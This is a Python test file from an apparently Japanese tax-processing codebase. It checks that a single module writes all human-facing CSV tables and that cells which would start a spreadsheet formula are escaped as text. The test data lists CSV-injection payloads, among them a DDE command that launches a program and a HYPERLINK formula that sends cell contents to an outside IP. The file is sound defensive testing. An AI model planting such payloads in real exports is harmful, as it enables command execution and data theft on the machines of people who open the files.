"""Tables for people: no cell of any of them starts a formula, because one place writes them all (security §6)."""

import ast

import pytest

from taxsys.platform.files.payloads.spreadsheet import guarded, table_csv
from tests.architecture.source import ROOT, python_files

HOME = ROOT / "taxsys" / "platform" / "files" / "payloads" / "spreadsheet.py"
# Interface files of the synthetic city's outsiders: they have layouts, and nobody opens them in a spreadsheet.
CITY = ROOT / "taxsys" / "city"


def writers() -> list[str]:
    """Files of the house that write CSV by the library."""
    return [
        str(path.relative_to(ROOT))
        for path in python_files()
        if path != HOME
        and CITY not in path.parents
        and any(
            isinstance(node, ast.Attribute)
            and node.attr in {"writer", "DictWriter"}
            and ast.unparse(node.value) == "csv"
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        )
    ]


def test_one_place_writes_every_table_for_people() -> None:
    assert writers() == []


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "　=1+1",
        "\ufeff=1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://192.0.2.1/"&A1)', "=IMPORTXML(A1)",
        "-2+3+cmd|' /C calc'!A0",
    ],
)  # fmt: skip
def test_a_cell_that_would_run_becomes_text(cell: str) -> None:
    assert guarded(cell) == f"'{cell}"
    assert f"'{cell.split(chr(34))[0][:3]}" in table_csv(["見出し"], [[cell]]).decode("utf-8-sig")


@pytest.mark.parametrize("cell", ["", "旭川", "-5", "+5", "-1,234", "1=1", "a@b", "R8.11.20", "△1,234", "ー", "＝A1"])
def test_a_cell_that_only_tells_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell


def test_numbers_stay_numbers_and_quotes_stay_inside_their_cell() -> None:
    content = table_csv(["a", "b"], [[-5, '"=1'], [None, 'x",=1']])
    assert content == '\ufeffa,b\r\n-5,"""=1"\r\n,"x"",=1"\r\n'.encode()
